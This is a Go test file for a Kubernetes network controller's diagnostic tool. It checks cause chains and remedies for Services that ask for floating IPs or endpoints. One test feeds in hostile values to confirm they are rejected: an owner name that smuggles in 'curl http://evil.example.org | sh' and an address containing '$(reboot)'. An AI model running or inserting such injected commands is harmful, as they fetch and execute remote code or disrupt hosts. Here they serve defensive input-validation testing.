package why

import (
	"fmt"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"cloudteam.ztgame.com/network-controller/internal/controller/consumer"
	"cloudteam.ztgame.com/network-controller/internal/kubectl/ask"
	cloudteamv1 "cloudteam.ztgame.com/network-controller/pkg/apis/cloudteam/v1"
	"cloudteam.ztgame.com/network-controller/test/expect"
)

// service selects the Pods with app=web, and asks for a floating IP.
func service(edits ...func(*corev1.Service)) *corev1.Service {
	s := &corev1.Service{ObjectMeta: named("web")}
	s.Annotations = map[string]string{cloudteamv1.AnnotationFloatingIP: "public"}
	s.Spec.Selector = map[string]string{"app": "web"}
	for _, edit := range edits {
		edit(s)
	}
	return s
}

// selected makes a Pod one that the Service selects.
func selected(p *corev1.Pod) { p.Labels = map[string]string{"app": "web"} }

// toldOfService is an Event of the Service, some minutes ago.
func toldOfService(name, reason string, minutes int, edits ...func(*corev1.Event)) *corev1.Event {
	e := &corev1.Event{ObjectMeta: named(name), Reason: reason, Message: "Pod web-1 has ports on two Networks"}
	e.InvolvedObject = corev1.ObjectReference{Kind: "Service", Namespace: "shop", Name: "web", UID: "uid-of-web"}
	e.LastTimestamp = metav1.NewTime(now.Add(-time.Duration(minutes) * time.Minute))
	for _, edit := range edits {
		edit(e)
	}
	return e
}

func serviceQuestions() (all []question) {
	ofService := func(f *cloudteamv1.FloatingIP) { f.OwnerReferences = ownedBy("Service", "v1", "web") }
	nowhere := func(f *cloudteamv1.FloatingIP) { ofService(f); f.Spec.PortName = "" }
	leads := func(f *cloudteamv1.FloatingIP) {
		ofService(f)
		f.Status.PortID, f.Status.PortAddress = "p0", "192.168.0.7"
	}
	failed := toldOfService("told", "FloatingIPFailed", 5)
	return []question{
		{reason: "Available", ask: "Service web", objects: on(service(), floatingIP("web", "True", "Available", leads)),
			remedy: "203.0.113.20 is associated with 192.168.0.7 of NetworkPort web-a"},
		{reason: "PortNotReady", ask: "Service web", objects: on(service(), floatingIP("web", "False", "PortNotReady", ofService)),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web PortNotReady > NetworkPort shop/web-a NotFound",
			says:  "no such NetworkPort", remedy: "Create it"},
		{reason: "QuotaExceeded", ask: "Service web", objects: on(service(), floatingIP("web", "False", "QuotaExceeded", nowhere)),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web QuotaExceeded"},
		{reason: "FloatingIPFailed", ask: "Service web", objects: on(good(), service(), failed, pod("Allocated", runs, selected)),
			chain: "Service shop/web FloatingIPFailed", says: "ports on two Networks", remedy: "Correct what the message names"},
		{reason: "ForbiddenByClass", ask: "Service web", says: "class is that of",
			objects: on(good(), service(), port("web-a", "True", "Available"), floatingIP("web", "False", "ForbiddenByClass", ofService)),
			chain:   "Service shop/web FloatingIPFailed > FloatingIP shop/web ForbiddenByClass > Network shop/frontend PlacedBy",
			remedy:  "in spec.className of the Network"},
		{reason: "FloatingIPFailed", ask: "Service web", says: "class is that of", remedy: "in spec.className of the Network",
			objects: on(good(), service(), pod("Allocated", runs, selected), port("web-a", "True", "Available", boundTo("web-1")),
				toldOfService("told", "FloatingIPFailed", 5, func(e *corev1.Event) {
					e.Message = `the FloatingIP cannot be written: NetworkClass "plain" forbids floatingIP`
				})),
			chain: "Service shop/web FloatingIPFailed > Network shop/frontend PlacedBy"},
		{reason: "Rejected", ask: "FloatingIP web", objects: on(floatingIP("web", "False", "Rejected", nowhere)),
			chain: "FloatingIP shop/web Rejected", remedy: "correct the Service's annotation"},
		// A Pod that waits is the cause, and not what was told before.
		{reason: "QuotaExceeded", ask: "Service web",
			objects: on(service(), failed, network("False", "QuotaExceeded"), pod("PortsNotReady", selected)),
			chain:   "Service shop/web FloatingIPFailed > Pod shop/web-1 PortsNotReady > Network shop/frontend QuotaExceeded"},
	}
}

// endpointsQuestions are about Services that ask for endpoints on a Network.
func endpointsQuestions() []question {
	asks := func(edits ...func(*corev1.Service)) *corev1.Service {
		return service(append([]func(*corev1.Service){func(s *corev1.Service) {
			s.Spec.Selector, s.Spec.ClusterIP = nil, corev1.ClusterIPNone
			s.Annotations = map[string]string{
				cloudteamv1.AnnotationEndpointsNetwork: "frontend", cloudteamv1.AnnotationEndpointsSelector: "app=web",
			}
		}}, edits...)...)
	}
	slice := func(pods int) *discoveryv1.EndpointSlice {
		s := &discoveryv1.EndpointSlice{ObjectMeta: named("web-slice")}
		s.Labels = map[string]string{
			discoveryv1.LabelServiceName: "web", discoveryv1.LabelManagedBy: consumer.EndpointsManagedBy,
		}
		for i := range pods {
			s.Endpoints = append(s.Endpoints, discoveryv1.Endpoint{TargetRef: &corev1.ObjectReference{Name: fmt.Sprint(i)},
				Conditions: discoveryv1.EndpointConditions{Ready: new(i > 0)}})
		}
		return s
	}
	told := func(message string) *corev1.Event {
		return toldOfService("told", "EndpointsFailed", 5, func(e *corev1.Event) { e.Message = message })
	}
	const failed = "Service shop/web EndpointsFailed"
	ask := func(q question) question { q.reason, q.ask = "EndpointsFailed", "Service web"; return q }
	return []question{
		ask(question{objects: on(asks(), slice(1), func() *discoveryv1.EndpointSlice {
			s := slice(1)
			s.Name, s.Labels[discoveryv1.LabelManagedBy] = "web-old", "endpointslice-controller.k8s.io"
			return s
		}()), remedy: "1 Pods on Network", warning: "EndpointSlice web-old of endpointslice-controller.k8s.io"}),
		ask(question{objects: on(asks(), slice(3)), remedy: "3 Pods on Network frontend as endpoints, and 2 of them are ready"}),
		ask(question{objects: on(asks(func(s *corev1.Service) { s.Spec.Selector = map[string]string{"a": "b"} })),
			chain: failed, says: "spec.selector is set", remedy: "Correct what the message names"}),
		ask(question{objects: on(asks()), chain: failed + " > Network shop/frontend NotFound", remedy: "Create it"}),
		ask(question{objects: on(asks(), good()), chain: "Service shop/web NoBackend", remedy: "endpoints-selector"}),
		ask(question{objects: on(asks(), good(), slice(0), pod("Allocated", runs, selected), told("no right")), chain: failed,
			says: "no right"}),
		ask(question{objects: on(asks(), network("True", "Available", func(n *cloudteamv1.Network) { n.Spec.ClassName = "team-b" }),
			aClass(), told(`NetworkClass "team-b" forbids endpoints`)), chain: failed + " > NetworkClass team-b Class"}),
		ask(question{objects: on(asks(), good(), pod("Allocated", runs, selected)), chain: "Service shop/web NotSeen"}),
		ask(question{objects: on(asks(), network("False", "QuotaExceeded"), pod("PortsNotReady", selected)),
			chain: failed + " > Pod shop/web-1 PortsNotReady > Network shop/frontend QuotaExceeded"}),
	}
}

func TestAServiceWithoutABackend(t *testing.T) {
	owned := func(f *cloudteamv1.FloatingIP) {
		f.OwnerReferences, f.Spec.PortName = ownedBy("Service", "v1", "web"), ""
	}
	for name, q := range map[string]question{
		"no annotation": {objects: on(service(func(s *corev1.Service) { s.Annotations = nil })),
			remedy: "asks for no floating IP"},
		"no Pods": {objects: on(service(), floatingIP("web", "True", "Available", owned)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"no selector": {objects: on(service(func(s *corev1.Service) { s.Spec.Selector = nil }), pod("Allocated", runs, selected)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"Pods of others": {objects: on(service(), pod("Allocated", runs)),
			chain: "Service shop/web NoBackend", remedy: "Correct spec.selector"},
		"Pods without a Network": {objects: on(service(), pod("", selected, func(p *corev1.Pod) { p.Annotations = nil })),
			chain: "Service shop/web NoBackend", remedy: "declare a Network"},
		"a FloatingIP of a user": {objects: on(service(), floatingIP("web", "True", "Available")),
			chain: "Service shop/web FloatingIPFailed > FloatingIP shop/web NotItsOwn", remedy: "Make the Service its owner"},
		"a wrong annotation beside an address that stays": {
			objects: on(service(), toldOfService("told", "FloatingIPFailed", 5),
				floatingIP("web", "True", "Available", func(f *cloudteamv1.FloatingIP) {
					f.OwnerReferences, f.Status.PortID = ownedBy("Service", "v1", "web"), "p0"
				})),
			remedy: "is associated with", warning: "ports on two Networks"},
		"what was told is over": {
			objects: on(good(), service(), pod("Allocated", runs, selected), toldOfService("was", "FloatingIPFailed", 9),
				toldOfService("is", "FloatingIPAssociated", 2)),
			chain: "Service shop/web NotSeen", remedy: "Wait some seconds"},
	} {
		t.Run(name, func(t *testing.T) {
			q.ask = "Service web"
			q.check(t, clusterOf(q.objects...))
		})
	}
}

func TestWhatAControllerWritesIsChangedWhereItIsAskedFor(t *testing.T) {
	writer := ask.New("StatefulSet", "shop", "db")
	remedy, commands := remedyOf([]Link{{
		Object: ask.New(KindNetworkPort, "shop", "db-0"), Reason: cloudteamv1.ReasonInvalidSpec, Writer: &writer,
	}})
	expect.Equal(t, "Change StatefulSet db, by which the controller writes it.", remedy, "the remedy")
	expect.Equal(t, []string{"kubectl edit statefulset db -n shop"}, commands, "the commands")
	for name, owner := range map[string]metav1.OwnerReference{
		"a command for a name": {Kind: "Pod", Name: "web; curl http://evil.example.org | sh #", Controller: new(true)},
		"a kind of others":     {Kind: "Ghost", Name: "web", Controller: new(true)},
	} {
		if w := writerOf(&metav1.ObjectMeta{Namespace: "shop", OwnerReferences: []metav1.OwnerReference{owner}}); w != nil {
			t.Errorf("%s: the writer is %+v, want none", name, w)
		}
	}
	ofSlot := &metav1.ObjectMeta{Namespace: "shop", Annotations: map[string]string{consumer.AnnotationMadeFor: "StatefulSet/db/0"}}
	expect.Equal(t, writer, *writerOf(ofSlot), "the writer of a slot's port")
	expect.Equal(t, "ADDRESS", addressIn("it has fe80::1%$(reboot) there", "ADDRESS"), "an address with a zone")
	_, commands = remedyOf([]Link{{
		Object: ask.New(KindNetwork, "shop", "web"), Reason: cloudteamv1.ReasonAddressInUse,
		Message: "create router interface: the gateway's address 10.0.0.7 is that of a port.",
	}})
	expect.Equal(t, []string{"openstack port list --fixed-ip ip-address=10.0.0.7"}, commands, "the commands")
}
